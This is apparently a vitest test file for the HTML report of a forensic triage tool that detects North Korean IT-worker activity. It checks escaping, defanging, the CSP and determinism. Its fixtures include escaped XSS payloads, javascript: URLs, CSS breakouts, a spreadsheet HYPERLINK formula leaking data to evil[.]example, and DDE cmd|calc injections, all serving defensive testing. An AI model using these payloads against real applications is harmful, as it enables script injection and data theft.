// The HTML report: escaping of every hostile string, defanging, CSP (recomputed here), no
// external resource, sections, anchors, determinism (reference ecosystem-and-style.md §5.1).
import {createHash} from 'node:crypto'
import {beforeAll, describe, expect, it} from 'vitest'

import {writeHtml} from '../../src/report/html/index.js'
import type {Report} from '../../src/lib/model.js'
import {buildReport, render} from './sample.js'

let page = ''
beforeAll(async () => {
  page = await render(writeHtml, buildReport())
})

const count = (s: string, sub: string) => s.split(sub).length - 1
const sha = (s: string) => createHash('sha256').update(s, 'utf8').digest('base64')
const cc = (pic: string) => `<span class="cc">${pic}</span>`

describe('HTML: hostile evidence is shown, never executed', () => {
  it('has exactly one <script> and one <style>, both ours', () => {
    expect(count(page, '<script')).toBe(1)
    expect(count(page, '</script>')).toBe(1)
    expect(count(page, '<style')).toBe(1)
    expect(count(page, '</style>')).toBe(1)
    expect(page).not.toContain('<img')
    expect(page).not.toContain('<iframe')
    expect(page).not.toContain('<textarea')
    expect(page).not.toContain('</textarea>')
    const svgs = page.match(/<svg[^>]*>/g)!
    expect(svgs).toContain('<svg class="heat" fill="#374151" width="668" height="166" viewBox="0 0 668 166" role="img" aria-label="Activity by weekday and hour in America/New_York">')
    // heatmap, session Gantt and case chart of case 1, case chart of case 2: all made at report time, no script
    expect(svgs.filter((x) => x.startsWith('<svg class="chart"')).length).toBe(svgs.length - 1)
  })
  it('escapes each payload where it appears', () => {
    const script = '&lt;script&gt;document[.]title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;'
    expect(page).toContain(`<h4><span class="role r-pts">adds points</span> PAY-01: Payment platform used by IT workers ${script}</h4>`)
    expect(page).toContain(`<span><b>title</b>=${script}</span>`)
    expect(page).toContain('<span><b>title</b>=&lt;img src=x onerror=alert(1)&gt;</span>')
    expect(page).toContain('<span><b>url</b>=javascript[:]alert(1)</span>')
    expect(page).toContain('<span><b>install_location</b>=&lt;/style&gt;&lt;style&gt;body{background:url(hxxp://127[.]0[.]0[.]1:9/css)}&lt;/style&gt;</span>')
    expect(page).toContain('<span><b>note</b>=&lt;/textarea&gt;&lt;svg onload=&quot;document[.]title=&#39;PWNED&#39;&quot;&gt;</span>')
    expect(page).toContain('Session closed &lt;/script&gt;&lt;script src=&quot;hxxp://127[.]0[.]0[.]1:9/js&quot;&gt;&lt;/script&gt; &lt;iframe src=&quot;hxxp://127[.]0[.]0[.]1:9/frame&quot;&gt;&lt;/iframe&gt;')
    expect(page).toContain('<span><b>remote_alias</b>==HYPERLINK(&quot;hxxp://evil[.]example/?leak=&quot;&amp;A1,&quot;click me&quot;)</span>')
    expect(page).toContain(`<span><b>file</b>=+cmd|&#39; /C calc&#39;!A0</span> <span><b>label</b>=@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</span> <span><b>size_note</b>=-2+3</span> <span><b>tab</b>=${cc('␉')}=1+1</span>`)
    expect(page).toContain(`<span><b>cr</b>=${cc('␍')}=1+1</span>`)
    expect(page).toContain('<title>dprk-triage report: laptop-farm-01, laptop-farm-02</title>')
    expect(page).toContain('<p class="small mut">Evidence: <span class="brk">/evidence/laptop-farm-01 &lt;img src=x onerror=alert(1)&gt;</span></p>')
    expect(page).toContain('<td class="brk">odd/&lt;img src=x onerror=alert(1)&gt;.txt</td>')
  })
  it('makes newlines, pipes, bidi overrides, NUL and terminal escapes visible', () => {
    expect(page).toContain(`File transfer col|with|pipes${cc('␊')}and a second line${cc('␍')}${cc('␊')}and a third`)
    expect(page).toContain(`to invoice${cc('⟨U+202E⟩')}gpj[.]exe`)
    expect(page).toContain(`<span class="raw">transfer ${cc('␛')}[31mRED${cc('␛')}[0m${cc('␛')}]0;owned${cc('␇')} nul${cc('␀')}byte</span>`)
    expect(page).toContain(`<li>archive member name not UTF-8: nul${cc('␀')}byte invoice${cc('⟨U+202E⟩')}gpj[.]exe</li>`)
    // nothing invisible or reordering is left in the bytes
    // eslint-disable-next-line no-control-regex
    expect(page.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/)
  })
  it('cuts 40,000-character values for display with a marker', () => {
    expect(page).toContain('<td>ad[.]roster[.]entry=' + 'A'.repeat(1984) + '… [cut: 38,017 more characters; full value in the JSON/JSONL/CSV export]<span class="flds">')
    expect(page).toContain('<span><b>value</b>=' + 'A'.repeat(400) + '… [cut: 39,601 more characters; full value in the JSON/JSONL/CSV export]</span>')
    expect(page).toContain('<span class="raw">' + 'A'.repeat(400) + '… [cut: 39,601 more characters; full value in the JSON/JSONL/CSV export]</span>')
    expect(page).not.toContain('END-OF-LONG')
    expect(page.length).toBeLessThan(70_000)
  })
  it('shows evidence URLs as defanged text, never as links; pack sources are real links', () => {
    expect(page).toContain('Downloaded hxxps://drive[.]google[.]com/uc?id=1x&amp;export=download to')
    expect(page).toContain('<span><b>url</b>=hxxps://www[.]payoneer[.]com/login?next=/withdraw</span>')
    expect(page).toContain('<li>FBI: <a href="https://www.ic3.gov/PSA/2024/PSA240516" rel="noreferrer">North Korean IT workers &lt;img src=x onerror=alert(1)&gt;</a> <span class="mut">(grade A)</span>')
    // a source URL that is not http(s) stays inert text
    expect(page).toContain('<span class="mono brk">javascript[:]alert(1)</span>')
    const live = [...page.matchAll(/https?:\/\/[^\s"<]+/gi)].map((m) => m[0])
    expect(new Set(live)).toEqual(new Set(['https://www.ic3.gov/PSA/2024/PSA240516', 'https://www.secureworks.com/blog/fraudulent-north-korean-it-workers']))
    expect(page).not.toMatch(/javascript:/i)
    expect(page).not.toMatch(/www\.payoneer|drive\.google/)
  })
  it('loads nothing: every tag attribute is local, no handlers, no style attributes', () => {
    const tags = page.match(/<[a-zA-Z][^>]*>/g)!
    expect(tags.length).toBeGreaterThan(300)
    for (const t of tags) {
      expect(t).not.toMatch(/\s(src|srcset|action|formaction|poster|background|style|xlink:href|ping)\s*=/i)
      expect(t).not.toMatch(/\son[a-z]+\s*=/i)
      const href = /\shref="([^"]*)"/.exec(t)
      // in-page anchors, or a pack source: https only, never sends a referrer
      if (href && !href[1]!.startsWith('#')) expect(t).toMatch(/^<a href="https:\/\/[^"\s]+" rel="noreferrer">$/)
      else if (href) expect(href[1]).toMatch(/^#[a-z0-9-]+$/)
    }
    const css = /<style>([\s\S]*?)<\/style>/.exec(page)![1]!
    expect(css).not.toMatch(/url\(|@import|@font-face/)
  })
  it('every in-page link has its target', () => {
    const ids = new Set([...page.matchAll(/\sid="([^"]+)"/g)].map((m) => m[1]))
    const hrefs = [...page.matchAll(/\shref="#([^"]+)"/g)].map((m) => m[1]!)
    expect(hrefs.length).toBeGreaterThan(15)
    for (const h of hrefs) expect(ids.has(h), h).toBe(true)
  })
})

describe('HTML: Content-Security-Policy', () => {
  it('is the first element of <head> and allows exactly the inline style and script by hash', () => {
    const head = /<head>\n([\s\S]*?)<\/head>/.exec(page)![1]!
    const first = /^<meta http-equiv="Content-Security-Policy" content="([^"]+)">\n/.exec(head)
    expect(first).not.toBeNull()
    const directives = first![1]!.split(';').map((d) => d.trim())
    const css = /<style>([\s\S]*?)<\/style>/.exec(page)![1]!
    const js = /<script>([\s\S]*?)<\/script>/.exec(page)![1]!
    expect(directives).toEqual([
      "default-src 'none'",
      `script-src 'sha256-${sha(js)}'`,
      `style-src 'sha256-${sha(css)}'`,
      "base-uri 'none'",
      "form-action 'none'",
    ])
    expect(first![1]).not.toContain('unsafe')
    expect(head.indexOf('<meta charset="utf-8">')).toBeLessThan(1024)
  })
})

describe('HTML: content', () => {
  it('has every section, with verdicts, findings, timeline, heatmap, links, inventory and method', () => {
    for (const id of ['summary', 'case-1', 'verdict-1', 'findings-1', 'activity-1', 'timeline-1', 'artifacts-1', 'case-2', 'verdict-2', 'timeline-2', 'links', 'method']) {
      expect(page, id).toContain(` id="${id}"`)
    }
    expect(page).toContain('<p class="big"><span class="lvl s-high">high</span> Level HIGH: a combination of indicators strongly consistent with the reported North Korean IT-worker scheme (score 82 of 100).</p>')
    expect(page).toContain('<li>Incoming AnyDesk sessions combined with Astrill VPN and Payoneer use</li>')
    expect(page).toContain('<p class="big"><span class="lvl s-low">low</span> Level LOW: isolated indicators that are individually benign (score 35 of 100).</p>')
    // findings ordered by their effect on the level, then weight; with sources and links to their events
    const order = [...page.matchAll(/<div class="finding" id="finding-1-\d+"><h4><span class="role [^"]+">([^<]+)<\/span> ([A-Z]+-\d+)/g)].map((m) => `${m[1]} ${m[2]}`)
    expect(order).toEqual(['adds points RA-01', 'adds points VPN-01', 'adds points PAY-01'])
    expect(page).toContain('<li>Secureworks: <a href="https://www.secureworks.com/blog/fraudulent-north-korean-it-workers" rel="noreferrer">NICKEL TAPESTRY</a>')
    expect(page).toContain('<p class="small">Supporting events: <span class="evs"><a href="#ev-1-2" class="mono">c1-0002</a><a href="#ev-1-6" class="mono">c1-0006</a></span></p>')
  })
  it('timeline holds the relevant events only, with counts of the rest', () => {
    const rows = [...page.matchAll(/<tr id="(ev-\d+-\d+)" data-type="([^"]+)" data-sev="(\w+)">/g)].map((m) => `${m[1]} ${m[2]} ${m[3]}`)
    expect(rows).toEqual([
      'ev-1-1 program.installed medium',
      'ev-1-2 remote_access.session_start high',
      'ev-1-3 browser.visit medium',
      'ev-1-4 browser.visit medium',
      'ev-1-5 browser.download none',
      'ev-1-6 remote_access.file_transfer high',
      'ev-1-7 remote_access.session_end none',
      'ev-1-9 remote_access.config none',
      'ev-2-1 remote_access.session_start high',
    ])
    expect(page).toContain('Not shown here: 1 other event (browser.visit: 1). The full timeline is in the JSONL or CSV export')
    expect(page).toContain('<td><span class="nw">2024-03-01</span><br><span class="small mut">date only</span></td>')
    // an install date is a date: no invented midnight, no zone basis (issue #14 point 7)
    expect(page).toContain('<span>2024-03-01 to 2024-03-01</span>')
    expect(page).not.toContain('2024-03-01T00:00:00')
    expect(page).not.toContain('2024-03-01 00:00:00')
  })
  it('filter controls exist for scripts, hidden until the script runs', () => {
    expect(page).toContain('<div class="filters" hidden data-for="tl-1">')
    expect(page).toContain('<option value="">all types</option><option value="browser.download">browser.download</option><option value="browser.visit">browser.visit</option><option value="program.installed">program.installed</option>')
    expect(page).toContain('<span class="f-count mut">8 of 8 events shown</span>')
    expect(count(page, 'addEventListener(')).toBe(3) // delegated: input, change, click on document
    expect(page).not.toMatch(/<tr[^>]*\son/)
  })
  it('print CSS expands everything', () => {
    expect(page).toContain('@media print{')
    expect(page).toContain('tr[hidden]{display:table-row!important}')
    expect(page).toContain('.filters,.filters:not([hidden]){display:none!important}')
  })
  it('draws the heatmap from CaseReport.activity', () => {
    const heat = page.slice(page.indexOf('<svg class="heat"'), page.indexOf('</svg>', page.indexOf('<svg class="heat"')))
    expect(count(heat, '<rect ')).toBe(168)
    expect(page).toContain('<rect x="638" y="122" width="24" height="18" fill="#991b1b"><title>Fri 23:00-23:59: 8</title></rect>')
    expect(page).toContain('<rect x="40" y="22" width="24" height="18" fill="#f3f4f6"><title>Sun 00:00-00:59: 0</title></rect>')
    expect(page).toContain('120 ten-minute slots of human activity on 5 local days · 87.5% at night (22:00-06:00) · best-fit working-day offset UTC+9')
    expect(page).toContain('Not drawn: no claimed time zone was given')
  })
  it('links cases through the shared value', () => {
    expect(page).toContain('<tr><td class="mono">ip</td><td class="mono brk">203.0.113.7</td><td><a href="#case-1">laptop-farm-01</a>, <a href="#case-2">laptop-farm-02</a></td><td><span class="evs"><a href="#ev-1-2" class="mono">c1-0002</a></span> <span class="evs"><a href="#ev-2-1" class="mono">c2-0001</a></span></td></tr>')
  })
  it('lists artifacts with kind, SHA-256, status and warnings', () => {
    expect(page).toContain(`<td class="mono">chromium.history</td><td>163,840</td><td class="mono brk">${'b'.repeat(64)}</td><td><span class="sev s-medium">partial</span></td><td>4</td><td><ul class="small"><li>row 44: unreadable url &lt;script&gt;`)
    expect(page).toContain('<tr><td>RA-02</td><td>TeamViewer</td><td>2</td><td>IT helpdesk &lt;img src=x onerror=alert(1)&gt;</td><td>allow[.]yaml:3</td></tr>')
  })
  it('method: version, command line, pack, parsers found and not found, time conventions', () => {
    expect(page).toContain('<p>Made by dprk-triage 0.1.0.</p>')
    expect(page).toContain('<p>Command line: <code class="brk">dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New_York --out &quot;&lt;script&gt;document[.]title=&#39;PWNED&#39;;window.__pwned=1&lt;/script&gt;.html&quot;</code></p>')
    expect(page).toContain('<p>Indicator pack <b>dprk-itw</b> version <b>2024.06</b>, 42 indicators; loaded: <span class="mono brk">builtin:dprk-itw.yaml</span>.</p>')
    expect(page).toContain('<tr><td class="mono">anydesk.trace</td><td>AnyDesk trace log</td><td>found: 1 artifact (1 parsed), 4 events</td></tr>')
    expect(page).toContain('<tr><td class="mono">anydesk.conf</td><td>AnyDesk configuration</td><td>found: 1 artifact (1 failed), 0 events</td></tr>')
    // the tool's own parser title is not defanged; evidence naming a domain still is
    expect(page).toContain('<tr><td class="mono">firefox.places</td><td>Firefox places.sqlite</td><td><span class="mut">not found in the evidence</span></td></tr>')
    expect(page).toContain('www[.]payoneer[.]com')
    expect(page).not.toContain('www.payoneer.com')
    expect(page).toContain('<tr><td class="mono">teamviewer.connections_incoming</td><td>TeamViewer Connections_incoming.txt</td><td><span class="mut">not found in the evidence</span></td></tr>')
    expect(page).toContain('<p>2 artifacts could not be read completely')
    expect(page).toContain('<p>This page shows 9 of 10 events;')
    expect(page).toContain('All times are UTC, ISO 8601 with <code>Z</code>.')
    expect(page).toContain('<li><code>assumed-utc</code>: the source gives no zone and no --host-tz was given; the time was read as UTC</li>')
    expect(page).toContain('<li><code>local-converted</code>: the source gave a local time that was converted with a known zone or offset</li>')
  })
})

describe('HTML: determinism', () => {
  it('two renders are byte-identical', async () => {
    expect(await render(writeHtml, buildReport())).toBe(page)
  })
  it('generatedAt only changes the one generated-at line, and no line without it', async () => {
    const other = await render(writeHtml, buildReport(9, {generatedAt: '2030-01-02T03:04:05.000Z'}))
    const none = await render(writeHtml, buildReport(9, {generatedAt: null}))
    const a = page.split('\n')
    const b = other.split('\n')
    expect(b.length).toBe(a.length)
    const diff = a.map((l, i) => (l === b[i] ? null : [l, b[i]])).filter(Boolean)
    expect(diff).toEqual([['<p class="mut" id="generated-at">Generated at 2024-06-01T12:00:00.000000Z</p>', '<p class="mut" id="generated-at">Generated at 2030-01-02T03:04:05.000Z</p>']])
    expect(none).toBe(a.filter((l) => !l.includes('id="generated-at"')).join('\n'))
    expect(none).not.toContain('Generated at')
  })
  it('long timelines are split into chunks of 500 rows that share the column layout', async () => {
    const r = buildReport(9)
    const c = r.cases[1]!
    const e0 = c.events[0]!
    c.events = Array.from({length: 1_201}, (_, i) => ({...e0, id: `big-${i}`, time: new Date(Date.UTC(2024, 2, 6) + i * 60_000).toISOString()}))
    const s = await render(writeHtml, r)
    const tl2 = s.slice(s.indexOf('<div class="tlw" id="tl-2">'), s.indexOf('<h3 id="artifacts-2"'))
    expect(count(tl2, '<div class="chunk">')).toBe(3)
    expect(count(tl2, '<thead>')).toBe(1)
    expect(count(tl2, '<colgroup>')).toBe(3)
    expect(count(tl2, '<tr id="ev-2-')).toBe(1_201)
    expect(tl2).toContain('<tr id="ev-2-500" ')
    expect(tl2).toContain('</tbody></table></div>\n<div class="chunk"><table class="tl"><colgroup><col class="c-n"><col class="c-t"><col class="c-ty"><col><col class="c-i"><col class="c-s"></colgroup><tbody>\n<tr id="ev-2-501" ')
    expect(tl2.endsWith('</tbody></table></div></div>\n')).toBe(true)
    expect(s).toContain('.chunk{content-visibility:auto;contain-intrinsic-size:auto 32000px}')
  })
  it('an empty report still renders a complete page', async () => {
    const empty: Report = {schema: 'dprk-triage/report@1', generator: {name: 'dprk-triage', version: '0.1.0'}, cases: [], links: []}
    const s = await render(writeHtml, empty)
    expect(s.startsWith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta http-equiv="Content-Security-Policy"')).toBe(true)
    expect(s.endsWith('</body>\n</html>\n')).toBe(true)
    expect(s).toContain('<p>No case: nothing to link.</p>')
    expect(s).toContain('<p class="mut">The report does not record the indicator pack or the parsers used.</p>')
  })
})
